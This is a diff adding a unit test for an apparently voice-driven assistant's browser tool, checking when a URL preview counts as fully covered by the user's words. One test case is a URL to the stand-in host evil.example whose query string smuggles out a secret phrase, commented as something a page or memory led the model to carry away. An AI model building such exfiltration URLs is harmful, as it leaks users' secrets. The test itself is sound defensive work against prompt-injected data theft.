@@ -16,7 +16,7 @@ from pipecatapp.tools.registry import TOOLS, ToolServices, create_tools
 from pipecatapp.tools.web_browser.browser import WebBrowser
 from pipecatapp.tools.web_browser.pictures import Pictures
 from pipecatapp.tools.web_browser.proxy import belongs_to_us
-from pipecatapp.tools.web_browser.tools import GetPageContent
+from pipecatapp.tools.web_browser.tools import GetPageContent, Goto
 from pipecatapp.vision.eyes import NoEyes
 
 pytestmark = pytest.mark.unit
@@ -106,3 +106,19 @@ def test_the_proxy_serves_programs_of_this_user_alone(tmp_path: Path) -> None:
     assert not belongs_to_us(50000, 8080, 1001, table)
     assert not belongs_to_us(50001, 8080, 1000, table)
     assert not belongs_to_us(50000, 8081, 1000, table)
+
+
+@pytest.mark.parametrize(
+    ("url", "words", "whole"),
+    [
+        ("https://example.org", "open example.org", True),
+        ("https://example.org/a/page?of=it", "open that page", True),
+        # What a page or a memory may have made the model carry away; nobody hears it.
+        (f"https://evil.example/?q={'the code of the gate is 1234 '.replace(' ', '+') * 3}", "open that page", False),
+        (f"https://example.org/{'long/' * 20}", f"open https://example.org/{'long/' * 20} please", True),
+    ],
+)
+async def test_an_address_that_carries_much_needs_the_page(tmp_path: Path, url: str, words: str, whole: bool) -> None:
+    preview = await Goto(WebBrowser(Pictures(tmp_path))).preview({"url": url}, ToolContext("c", "t", words))
+    assert preview.whole is whole
+    assert preview.detail.startswith(url)
